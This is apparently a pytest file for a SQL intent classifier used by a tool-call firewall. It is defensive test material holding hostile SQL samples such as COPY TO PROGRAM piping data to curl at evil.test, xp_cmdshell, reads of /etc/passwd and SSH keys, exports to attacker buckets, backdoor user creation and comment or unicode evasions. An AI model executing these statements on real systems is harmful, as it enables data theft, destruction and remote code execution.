"""The SQL classifier, table-driven: destructive and exfiltrating SQL across dialects, the
evasions that must not work, benign corpora, and arbitrary text that must never crash it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from firewall import Firewall, ToolCall, policy_from_yaml
from firewall.errors import PolicyError
from firewall.intent import get_classifier
from firewall.intent.sql import FACTS, classify, classify_sql

DESTRUCTIVE = {
    "data.write",
    "data.delete",
    "data.truncate",
    "data.export",
    "schema.create",
    "schema.alter",
    "schema.drop",
    "privilege.grant",
    "privilege.revoke",
    "code.execute",
    "file.read",
    "file.write",
    "file.delete",
    "network.egress",
    "unknown",
}

# (dialect, sql, intents that must be present, facts that must hold)
CASES: list[tuple[str, str, set[str], dict]] = [
    # --- drops, truncates, alters -------------------------------------------------------
    (
        "postgres",
        "DROP TABLE users",
        {"schema.drop"},
        {"tables_written": ["users"], "drops": ["table"]},
    ),
    (
        "postgres",
        "DROP TABLE IF EXISTS app.users CASCADE",
        {"schema.drop"},
        {"tables_written": ["app.users"]},
    ),
    ("postgres", "DROP SCHEMA app CASCADE", {"schema.drop"}, {"drops": ["schema"]}),
    ("postgres", "DROP DATABASE prod", {"schema.drop"}, {"drops": ["database"]}),
    ("mysql", "DROP DATABASE shop", {"schema.drop"}, {"drops": ["database"]}),
    ("sqlite", "DROP VIEW v_orders", {"schema.drop"}, {"drops": ["view"]}),
    ("snowflake", "DROP WAREHOUSE analytics_wh", {"schema.drop"}, {}),
    ("bigquery", "DROP SNAPSHOT TABLE ds.snap", {"schema.drop"}, {}),
    ("postgres", "TRUNCATE orders", {"data.truncate"}, {"tables_written": ["orders"]}),
    ("tsql", "TRUNCATE TABLE dbo.orders", {"data.truncate"}, {"tables_written": ["dbo.orders"]}),
    ("mysql", "TRUNCATE TABLE orders", {"data.truncate"}, {}),
    (
        "postgres",
        "ALTER TABLE users DROP COLUMN email",
        {"schema.alter", "schema.drop"},
        {"drops": ["column"]},
    ),
    ("mysql", "ALTER TABLE users DROP COLUMN email", {"schema.alter", "schema.drop"}, {}),
    (
        "postgres",
        "ALTER TABLE users RENAME TO old_users",
        {"schema.alter"},
        {"tables_written": ["old_users", "users"]},
    ),
    ("mysql", "RENAME TABLE users TO users_old", {"schema.alter"}, {"tables_written": ["users"]}),
    ("snowflake", "CREATE OR REPLACE TABLE users (id INT)", {"schema.drop", "data.delete"}, {}),
    # --- bulk and sneaky writes -----------------------------------------------------------
    (
        "postgres",
        "DELETE FROM users",
        {"data.delete"},
        {"has_where": False, "unbounded_write": True},
    ),
    (
        "postgres",
        "DELETE FROM users WHERE 1=1",
        {"data.delete"},
        {"trivial_where": True, "unbounded_write": True},
    ),
    (
        "mysql",
        "DELETE FROM users WHERE TRUE",
        {"data.delete"},
        {"trivial_where": True, "unbounded_write": True},
    ),
    ("sqlite", "DELETE FROM users WHERE 'a'='a'", {"data.delete"}, {"trivial_where": True}),
    (
        "postgres",
        "UPDATE users SET admin = true WHERE id = 7 OR 1=1",
        {"data.write"},
        {"unbounded_write": True},
    ),
    (
        "postgres",
        "UPDATE users SET admin = true WHERE id = id",
        {"data.write"},
        {"trivial_where": True},
    ),
    ("bigquery", "DELETE FROM ds.events WHERE 2 > 1", {"data.delete"}, {"unbounded_write": True}),
    ("duckdb", "UPDATE t SET x = 0", {"data.write"}, {"has_where": False, "unbounded_write": True}),
    (
        "postgres",
        "UPDATE users SET name = 'x' WHERE name LIKE '%'",
        {"data.write"},
        {"trivial_where": True},
    ),
    ("tsql", "DELETE FROM dbo.audit WHERE (1=1)", {"data.delete"}, {"unbounded_write": True}),
    ("snowflake", "DELETE FROM events WHERE NOT FALSE", {"data.delete"}, {"unbounded_write": True}),
    (
        "mysql",
        "DELETE a FROM accounts a JOIN tmp b ON a.id = b.id",
        {"data.delete"},
        {"tables_written": ["accounts"]},
    ),
    (
        "postgres",
        "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
        {"data.delete", "data.read"},
        {"statements": ["select", "delete"], "tables_written": ["orders"]},
    ),
    (
        "postgres",
        "WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM u",
        {"data.write"},
        {"unbounded_write": True},
    ),
    (
        "postgres",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        {"data.delete", "data.write"},
        {},
    ),
    (
        "snowflake",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE "
        "WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)",
        {"data.delete", "data.write"},
        {},
    ),
    (
        "postgres",
        "SELECT * INTO backup_users FROM users",
        {"schema.create", "data.write"},
        {"tables_written": ["backup_users"], "tables_read": ["users"]},
    ),
    ("tsql", "SELECT * INTO #stolen FROM dbo.customers", {"schema.create", "data.write"}, {}),
    (
        "postgres",
        "CREATE TABLE copy_of_users AS SELECT * FROM users",
        {"schema.create", "data.write"},
        {},
    ),
    ("mysql", "REPLACE INTO users VALUES (1, 'x')", {"data.write", "data.delete"}, {}),
    (
        "postgres",
        "INSERT INTO audit SELECT * FROM users",
        {"data.write"},
        {"tables_written": ["audit"]},
    ),
    # --- exports, files, programs --------------------------------------------------------
    (
        "postgres",
        "COPY users TO '/tmp/users.csv'",
        {"data.export", "file.write"},
        {"exports": ["/tmp/users.csv"]},
    ),
    (
        "postgres",
        "COPY (SELECT * FROM users) TO STDOUT WITH (FORMAT csv)",
        {"data.export"},
        {"exports": ["STDOUT"]},
    ),
    (
        "postgres",
        "COPY users TO PROGRAM 'curl -d @- http://evil.test'",
        {"code.execute", "data.export"},
        {},
    ),
    (
        "postgres",
        "COPY users FROM '/etc/passwd'",
        {"file.read", "data.write"},
        {"files_read": ["/etc/passwd"]},
    ),
    ("postgres", "COPY users FROM PROGRAM 'id'", {"code.execute", "data.write"}, {}),
    (
        "mysql",
        "SELECT * FROM users INTO OUTFILE '/var/lib/mysql-files/u.txt'",
        {"data.export", "file.write", "data.read"},
        {"exports": ["/var/lib/mysql-files/u.txt"], "tables_read": ["users"]},
    ),
    (
        "mysql",
        "SELECT password FROM mysql.user INTO DUMPFILE '/tmp/p'",
        {"data.export", "file.write"},
        {"files_written": ["/tmp/p"]},
    ),
    (
        "mysql",
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
        {"file.read", "data.write"},
        {"files_read": ["/etc/passwd"]},
    ),
    (
        "mysql",
        "LOAD DATA LOCAL INFILE '/home/u/.ssh/id_rsa' INTO TABLE t",
        {"file.read", "data.write"},
        {},
    ),
    ("mysql", "SELECT LOAD_FILE('/etc/shadow')", {"file.read"}, {"functions": ["load_file"]}),
    (
        "postgres",
        "SELECT pg_read_file('/etc/passwd')",
        {"file.read"},
        {"files_read": ["/etc/passwd"]},
    ),
    ("postgres", "SELECT lo_import('/etc/passwd')", {"file.read", "data.write"}, {}),
    (
        "postgres",
        "SELECT lo_export(16400, '/tmp/out')",
        {"file.write", "data.export"},
        {"exports": ["/tmp/out"]},
    ),
    (
        "postgres",
        "SELECT dblink_exec('host=evil.test', 'DROP TABLE x')",
        {"network.egress", "code.execute"},
        {},
    ),
    ("postgres", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", {"code.execute"}, {}),
    (
        "sqlite",
        "ATTACH DATABASE '/tmp/exfil.db' AS x",
        {"file.write"},
        {"files_written": ["/tmp/exfil.db"]},
    ),
    ("sqlite", "DETACH DATABASE x", {"schema.alter"}, {"statements": ["detach"]}),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')", {"code.execute"}, {}),
    (
        "sqlite",
        "VACUUM INTO '/tmp/copy.db'",
        {"data.export", "file.write"},
        {"files_written": ["/tmp/copy.db"]},
    ),
    ("sqlite", "PRAGMA writable_schema = 1", {"schema.alter", "code.execute"}, {}),
    (
        "duckdb",
        "SELECT * FROM read_csv('https://evil.test/x.csv')",
        {"network.egress"},
        {"remote": ["https://evil.test/x.csv"]},
    ),
    ("duckdb", "SELECT * FROM 's3://bucket/secret.parquet'", {"network.egress"}, {}),
    (
        "duckdb",
        "SELECT * FROM read_text('/etc/passwd')",
        {"file.read"},
        {"files_read": ["/etc/passwd"]},
    ),
    ("duckdb", "COPY users TO 'users.parquet'", {"data.export", "file.write"}, {}),
    ("duckdb", "INSTALL httpfs", {"code.execute", "network.egress"}, {}),
    ("duckdb", "LOAD httpfs", {"code.execute"}, {}),
    ("duckdb", "ATTACH 'https://evil.test/x.db'", {"network.egress"}, {}),
    ("tsql", "EXEC xp_cmdshell 'whoami'", {"code.execute"}, {"functions": ["xp_cmdshell"]}),
    ("tsql", "EXEC master..xp_dirtree '\\\\evil.test\\share'", {"network.egress"}, {}),
    (
        "tsql",
        "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil', 'SELECT 1')",
        {"network.egress"},
        {},
    ),
    (
        "tsql",
        "BULK INSERT t FROM 'c:\\data.csv'",
        {"file.read", "data.write"},
        {"tables_written": ["t"], "files_read": ["c:\\data.csv"]},
    ),
    (
        "tsql",
        "BACKUP DATABASE shop TO DISK = '\\\\evil\\x.bak'",
        {"data.export", "network.egress"},
        {},
    ),
    ("snowflake", "COPY INTO @ext_stage FROM customers", {"data.export", "network.egress"}, {}),
    ("snowflake", "COPY INTO 's3://evil/x' FROM customers", {"data.export", "network.egress"}, {}),
    ("snowflake", "PUT file:///etc/passwd @my_stage", {"file.read", "data.export"}, {}),
    ("snowflake", "GET @my_stage file:///tmp/", {"file.write"}, {}),
    (
        "bigquery",
        "EXPORT DATA OPTIONS(uri='gs://evil/*.csv', format='CSV') AS SELECT * FROM ds.users",
        {"data.export", "network.egress"},
        {"exports": ["gs://evil/*.csv"]},
    ),
    (
        "bigquery",
        "LOAD DATA INTO ds.t FROM FILES(format='CSV', uris=['gs://x/*.csv'])",
        {"data.write"},
        {},
    ),
    # --- privileges ---------------------------------------------------------------------
    ("postgres", "GRANT ALL ON users TO intern", {"privilege.grant"}, {}),
    ("postgres", "REVOKE SELECT ON users FROM analyst", {"privilege.revoke"}, {}),
    ("postgres", "ALTER ROLE app SUPERUSER", {"privilege.grant"}, {}),
    ("postgres", "CREATE USER backdoor WITH PASSWORD 'x'", {"privilege.grant"}, {}),
    ("postgres", "SET ROLE postgres", {"privilege.grant"}, {}),
    ("postgres", "SET SESSION AUTHORIZATION postgres", {"privilege.grant"}, {}),
    ("mysql", "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'", {"privilege.grant"}, {}),
    ("mysql", "CREATE USER 'x'@'%' IDENTIFIED BY 'p'", {"privilege.grant"}, {}),
    ("snowflake", "GRANT ROLE accountadmin TO USER mallory", {"privilege.grant"}, {}),
    ("snowflake", "USE ROLE ACCOUNTADMIN", {"privilege.grant"}, {}),
    ("postgres", "DROP ROLE auditor", {"privilege.revoke"}, {}),
    # --- dynamic SQL and code ---------------------------------------------------------------
    (
        "postgres",
        "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
        {"code.execute"},
        {"dynamic_sql": True},
    ),
    ("postgres", "PREPARE wipe AS DELETE FROM users", {"data.delete"}, {"dynamic_sql": True}),
    ("postgres", "EXECUTE wipe", {"code.execute"}, {"dynamic_sql": True}),
    ("mysql", "PREPARE s FROM 'DROP TABLE users'", {"schema.drop"}, {"dynamic_sql": True}),
    (
        "tsql",
        "EXEC sp_executesql N'DROP TABLE users'",
        {"code.execute", "schema.drop"},
        {"dynamic_sql": True},
    ),
    ("tsql", "EXEC('DROP TABLE users')", {"code.execute", "schema.drop"}, {"dynamic_sql": True}),
    (
        "tsql",
        "DECLARE @s NVARCHAR(100) = 'DROP TABLE users'; EXEC(@s)",
        {"code.execute"},
        {"dynamic_sql": True},
    ),
    (
        "snowflake",
        "EXECUTE IMMEDIATE 'DROP TABLE users'",
        {"code.execute", "schema.drop"},
        {"dynamic_sql": True},
    ),
    (
        "bigquery",
        "EXECUTE IMMEDIATE 'DELETE FROM ds.t WHERE true'",
        {"data.delete"},
        {"unbounded_write": True},
    ),
    (
        "postgres",
        "SELECT query_to_xml('DELETE FROM users', true, true, '')",
        {"data.delete", "code.execute"},
        {},
    ),
    ("postgres", "CALL purge_everything()", {"code.execute"}, {}),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM users", {"data.delete"}, {"unbounded_write": True}),
    ("postgres", "EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET x = 1", {"data.write"}, {}),
    ("postgres", "ALTER SYSTEM SET archive_command = 'curl evil.test'", {"code.execute"}, {}),
    ("postgres", "CREATE EXTENSION plpython3u", {"code.execute"}, {}),
    ("mysql", "SET GLOBAL general_log_file = '/var/www/html/x.php'", {"code.execute"}, {}),
    ("postgres", "VACUUM FULL users", {"schema.alter"}, {}),
    ("postgres", "LOCK TABLE users IN ACCESS EXCLUSIVE MODE", {"data.write"}, {}),
    # --- evasions ------------------------------------------------------------------------
    ("postgres", "SELECT 1; DROP TABLE users", {"schema.drop"}, {"statement_count": 2}),
    ("postgres", "sElEcT 1;dRoP/**/tAbLe users", {"schema.drop"}, {}),
    ("postgres", "SELECT 1 -- harmless\n; DROP TABLE users", {"schema.drop"}, {}),
    (
        "postgres",
        "/* cleanup */ DELETE /* all */ FROM users",
        {"data.delete"},
        {"unbounded_write": True},
    ),
    ("mysql", "SELECT 1 /*! ; DROP TABLE users */", {"schema.drop"}, {"executable_comments": True}),
    (
        "mysql",
        "SELECT 1 /*!50000 ; DELETE FROM users */",
        {"data.delete"},
        {"executable_comments": True},
    ),
    ("mysql", "SELECT 1 /*M!100000 ; DROP TABLE users */", {"schema.drop"}, {}),
    ("mysql", "SELECT 1 --x\n; DROP TABLE users", {"schema.drop"}, {}),
    ("mysql", "SELECT 1 /* /* */ ; DROP TABLE users; /* */", {"schema.drop"}, {}),
    ("postgres", "DR\u200bOP TABLE users", {"schema.drop"}, {"unicode_normalized": True}),
    ("postgres", "DELETE\u2060 FROM users", {"data.delete"}, {"unicode_normalized": True}),
    (
        "postgres",
        "\uff24\uff32\uff2f\uff30 TABLE users",
        {"schema.drop"},
        {"unicode_normalized": True},
    ),
    (
        "postgres",
        "SELECT \uff07; DROP TABLE users; --\uff07",
        {"unknown"},
        {"unicode_normalized": True},
    ),
    ("postgres", "SELECT 1 -\u200b- ; DROP TABLE users", {"unknown"}, {}),
    ("postgres", "\u202eDELETE FROM users", {"data.delete"}, {}),
    ("postgres", "WITH x AS (SELECT 1) DELETE FROM users", {"data.delete"}, {}),
    (
        "postgres",
        "SELECT * FROM (SELECT 1) s, LATERAL (SELECT lo_export(1, '/tmp/x')) l",
        {"file.write"},
        {},
    ),
    ("postgres", "SELECT 1 UNION SELECT pg_read_file('/etc/passwd')", {"file.read"}, {}),
    (
        "postgres",
        "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM users",
        {"schema.create"},
        {},
    ),
    # --- things that are not readable SQL --------------------------------------------------
    ("postgres", "", {"unknown"}, {}),
    ("postgres", "   -- only a comment", {"unknown"}, {}),
    ("postgres", "1 + 1", {"unknown"}, {}),
    ("postgres", "users", {"unknown"}, {}),
    ("postgres", "DROP TABLE", {"unknown"}, {}),
    ("postgres", "SELECT FROM WHERE DELETE", {"unknown"}, {}),
    ("tsql", "SHUTDOWN WITH NOWAIT", {"unknown"}, {}),
    ("postgres", "FROBNICATE EVERYTHING", {"unknown"}, {}),
    ("postgres", "SECURITY LABEL ON TABLE t IS 'x'", {"unknown"}, {}),
]

BENIGN: list[tuple[str, str, dict]] = [
    ("postgres", "SELECT id, email FROM users WHERE id = 7", {"tables_read": ["users"]}),
    (
        "postgres",
        "SELECT o.id FROM sales.orders o JOIN sales.customers c ON c.id = o.cid LIMIT 5",
        {"tables_read": ["sales.customers", "sales.orders"]},
    ),
    (
        "postgres",
        "WITH recent AS (SELECT * FROM orders) SELECT count(*) FROM recent",
        {"tables_read": ["orders"]},
    ),
    (
        "mysql",
        "SELECT `name` FROM `shop`.`items` ORDER BY price DESC LIMIT 10",
        {"tables_read": ["shop.items"]},
    ),
    ("sqlite", "SELECT name FROM sqlite_master WHERE type = 'table'", {}),
    ("duckdb", "SELECT species, avg(bill_length_mm) FROM penguins GROUP BY ALL", {}),
    ("tsql", "SELECT TOP 10 * FROM dbo.orders ORDER BY id DESC", {"tables_read": ["dbo.orders"]}),
    ("snowflake", "SELECT * FROM analytics.public.events SAMPLE (10)", {}),
    ("bigquery", "SELECT * FROM `proj.ds.events` WHERE _PARTITIONDATE = CURRENT_DATE()", {}),
    ("postgres", "SELECT 'DROP TABLE users; -- just text'", {}),
    ("postgres", "SELECT $$ DELETE FROM users $$ AS doc", {}),
    ("postgres", "EXPLAIN SELECT * FROM users", {}),
    ("postgres", "EXPLAIN DELETE FROM users", {}),
    ("postgres", "SHOW search_path", {}),
    ("mysql", "SHOW TABLES", {}),
    ("sqlite", "PRAGMA table_info(users)", {}),
    ("mysql", "DESCRIBE users", {}),
    ("mysql", "EXPLAIN ANALYZE SELECT * FROM users", {"statements": ["explain analyze", "select"]}),
    ("postgres", "SELECT 'caf\u00e9', '\u65e5\u672c'", {}),
    ("postgres", "SELECT 1 /* a /*! not mysql */ comment */", {}),
]

NO_EFFECT: list[tuple[str, str]] = [
    ("postgres", "BEGIN"),
    ("postgres", "COMMIT"),
    ("postgres", "ROLLBACK"),
    ("postgres", "SET statement_timeout = 5000"),
    ("mysql", "USE shop"),
]


def _ids(cases: list) -> list[str]:
    return [f"{c[0]}:{c[1][:50]}" for c in cases]


@pytest.mark.parametrize(("dialect", "sql", "intents", "facts"), CASES, ids=_ids(CASES))
def test_destructive_and_exfiltrating_sql_is_recognised(dialect, sql, intents, facts):
    result = classify_sql(sql, dialect)
    assert intents <= result.intents, (sorted(result.intents), result.facts)
    assert result.intents & DESTRUCTIVE, "a destructive case must never look harmless"
    for name, expected in facts.items():
        assert result.facts[name] == expected, (name, result.facts)
    json.dumps(result.facts)  # plain, serialisable facts


def test_the_corpus_is_big_enough():
    destructive = [c for c in CASES if "unknown" not in c[2] or len(c[2]) > 1]
    assert len(destructive) >= 80
    assert {c[0] for c in CASES} >= {
        "postgres",
        "mysql",
        "sqlite",
        "duckdb",
        "tsql",
        "snowflake",
        "bigquery",
    }


@pytest.mark.parametrize(("dialect", "sql", "facts"), BENIGN, ids=_ids(BENIGN))
def test_benign_sql_only_reads(dialect, sql, facts):
    result = classify_sql(sql, dialect)
    assert result.intents == {"data.read"}, (sorted(result.intents), result.facts)
    for name, expected in facts.items():
        assert result.facts[name] == expected, (name, result.facts)


@pytest.mark.parametrize(("dialect", "sql"), NO_EFFECT, ids=[f"{d}:{s}" for d, s in NO_EFFECT])
def test_session_statements_have_no_intent(dialect, sql):
    result = classify_sql(sql, dialect)
    assert result.intents == frozenset(), result.facts
    assert result.facts["statement_count"] == 1


def test_bounded_writes_are_not_bulk():
    result = classify_sql(
        "UPDATE users SET name = 'x' WHERE id = 7; DELETE FROM s WHERE id IN (1, 2)"
    )
    assert result.facts["has_where"] and not result.facts["unbounded_write"]
    assert not result.facts["trivial_where"]
    assert result.facts["write_count"] == 2
    limited = classify_sql("DELETE FROM t ORDER BY id LIMIT 100", "mysql")
    assert limited.facts["has_limit"] and not limited.facts["unbounded_write"]
    top = classify_sql("DELETE TOP (10) FROM dbo.t", "tsql")
    assert top.facts["has_limit"] and top.facts["tables_written"] == ["dbo.t"]


def test_one_bulk_statement_among_bounded_ones_is_enough():
    result = classify_sql("DELETE FROM a WHERE id = 1; DELETE FROM b")
    assert not result.facts["has_where"] and result.facts["unbounded_write"]
    assert result.facts["tables_written"] == ["a", "b"]


def test_ctes_are_not_tables():
    result = classify_sql("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")
    assert result.facts["tables_read"] == []
    assert result.facts["tables_written"] == ["t"]


def test_unknown_carries_the_reason():
    result = classify_sql("SELECT FROM WHERE", "postgres")
    assert "unknown" in result.intents
    assert "does not parse" in result.facts["error"]


@pytest.mark.parametrize("value", [None, 42, ["SELECT 1"], {"q": "x"}, b"SELECT 1", 3.5])
def test_non_strings_are_unknown(value):
    result = classify(value, {"dialect": "postgres"})
    assert result.intents == {"unknown"}
    assert "not a string" in result.facts["error"]


def test_unknown_dialect_is_unknown_not_an_exception():
    result = classify_sql("SELECT 1", "no-such-dialect")
    assert result.intents == {"unknown"}
    assert "dialect" in result.facts["error"]


def test_registration_and_facts():
    classifier = get_classifier("sql")
    assert classifier.func is classify
    assert classifier.options == {"dialect", "write_limit"}
    produced = classify_sql("DELETE FROM t").facts
    assert set(produced) <= FACTS
    assert set(classify_sql("SELECT FROM").facts) <= FACTS
    classifier.validate_options({"dialect": "snowflake"})
    with pytest.raises(ValueError, match="unknown SQL dialect"):
        classifier.validate_options({"dialect": "oracle9000"})


def test_a_policy_with_an_unknown_dialect_is_rejected():
    with pytest.raises(PolicyError, match="unknown SQL dialect"):
        policy_from_yaml(
            "name: t\ntools:\n  q:\n    classify: {classifier: sql, argument: sql, dialect: nope}\n"
        )


def test_firewall_uses_the_sql_facts():
    policy = policy_from_yaml(
        """
name: t
default: deny
tools:
  run_sql:
    classify: {classifier: sql, argument: query, dialect: sqlite}
rules:
  - id: reads
    match: {intents: [data.read]}
    verdict: allow
  - id: bulk
    match: {intents: [data.delete, data.write]}
    when: facts.sql.unbounded_write
    verdict: require_approval
    message: bulk change
  - id: drops
    match: {intents: [schema.drop]}
    verdict: deny
    message: no drops
"""
    )
    firewall = Firewall(policy)

    def verdict(query: str) -> str:
        return firewall.evaluate(
            ToolCall(name="run_sql", arguments={"query": query})
        ).policy_verdict.label

    assert verdict("SELECT * FROM t") == "allow"
    assert verdict("DELETE FROM t") == "require_approval"
    assert verdict("SELECT 1; DROP TABLE t") == "deny"
    decision = firewall.check(
        ToolCall(name="run_sql", arguments={"query": "DELETE FROM t WHERE 1=1"})
    )
    assert decision.facts["sql"]["trivial_where"] is True


@settings(max_examples=300, deadline=None)
@given(
    st.text(max_size=200),
    st.sampled_from(["postgres", "mysql", "sqlite", "duckdb", "tsql", "snowflake", "bigquery"]),
)
def test_never_raises_on_arbitrary_text(text, dialect):
    result = classify_sql(text, dialect)
    assert result.intents or result.facts["statement_count"] > 0
    if "error" in result.facts:
        assert "unknown" in result.intents


SQLISH = st.lists(
    st.sampled_from(
        [
            "SELECT",
            "DELETE",
            "FROM",
            "WHERE",
            "t",
            "1=1",
            ";",
            "'",
            "/*!",
            "*/",
            "--",
            "\n",
            "(",
            ")",
            "DROP",
            "TABLE",
            "$$",
            "\u200b",
            "EXEC",
            "INTO",
            "OUTFILE",
            ",",
            "*",
            "@x",
            '"',
            "WITH",
            "AS",
        ]
    ),
    max_size=25,
).map(" ".join)


@settings(max_examples=300, deadline=None)
@given(SQLISH, st.sampled_from(["postgres", "mysql", "tsql", "duckdb"]))
def test_never_raises_on_sql_like_noise(text, dialect):
    result = classify_sql(text, dialect)
    if "error" in result.facts:
        assert "unknown" in result.intents
    if result.intents == {"data.read"}:
        # something read as a pure read must contain no statement that writes
        assert not ({"delete", "drop", "insert", "update"} & set(result.facts["statements"]))


# --- benign corpora: TPC-H and TPC-DS (see tests/data/tpc/README.md) -----------------------

TPC_DIR = Path(__file__).parent / "data" / "tpc"
DIALECTS = ["postgres", "mysql", "sqlite", "duckdb", "tsql", "snowflake", "bigquery"]


def load_tpc(name: str) -> list[str]:
    """The queries of a sqlglot fixture file: originals and sqlglot's optimised rewrites."""
    text = (TPC_DIR / name).read_text(encoding="utf-8")
    body = "\n".join(line for line in text.splitlines() if line and not line.startswith("--"))
    queries = []
    for part in body.split(";"):
        lines = part.strip().split("\n")
        while lines and lines[0].startswith("#"):
            lines.pop(0)
        query = "\n".join(lines).strip()
        if query:
            queries.append(query)
    return queries


@pytest.mark.parametrize(("name", "count"), [("tpc-h.sql", 44), ("tpc-ds.sql", 198)])
@pytest.mark.parametrize("dialect", DIALECTS)
def test_tpc_queries_only_read(name, count, dialect):
    queries = load_tpc(name)
    assert len(queries) == count
    for query in queries:
        result = classify_sql(query, dialect)
        if dialect == "bigquery" and "unknown" in result.intents:
            # BigQuery demands UNION/INTERSECT/EXCEPT DISTINCT|ALL (and more): real syntax
            # errors there, read as unknown, never as anything destructive
            assert result.intents == {"unknown", "data.read"}, result.facts
            assert "does not parse" in result.facts["error"]
            continue
        assert result.intents == {"data.read"}, (query[:200], sorted(result.intents), result.facts)
        assert result.facts["tables_read"], query[:200]
        assert not result.facts["tables_written"]
